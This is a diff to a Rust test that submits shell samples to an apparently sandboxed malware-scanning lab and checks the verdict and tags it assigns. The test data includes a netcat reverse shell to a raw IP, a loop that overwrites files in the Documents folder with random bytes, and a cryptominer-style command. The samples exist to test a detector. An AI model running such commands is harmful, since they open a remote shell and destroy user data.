@@ -222,11 +222,11 @@ fn what_a_sample_does_decides_about_it() {
         ("shell.sh", "nc 203.0.113.7 4444 -e /bin/sh", "malicious", &["takes-orders", "raw-address"]),
         (
             "ransom.sh",
-            "for f in ~/Documents/*; do head -c 3000 /dev/urandom > \"$f.locked\"; rm \"$f\"; done",
+            "for f in ~/Documents/*; do head -c 3000 /dev/urandom > \"$f\"; done",
             "malicious",
             &["encrypts"],
         ),
-        ("miner.sh", "nslookup pool.supportxmr.com; killall xmrig", "malicious", &["mines", "kills-others"]),
+        ("miner.sh", "nslookup pool.supportxmr.com; pkill -f xmrig", "malicious", &["mines", "kills-others"]),
     ];
     for (name, script, verdict, rules) in table {
         let page = lab.ended(&lab.submit(name, format!("#!/bin/sh\n{script}\nexit 0\n").as_bytes()));
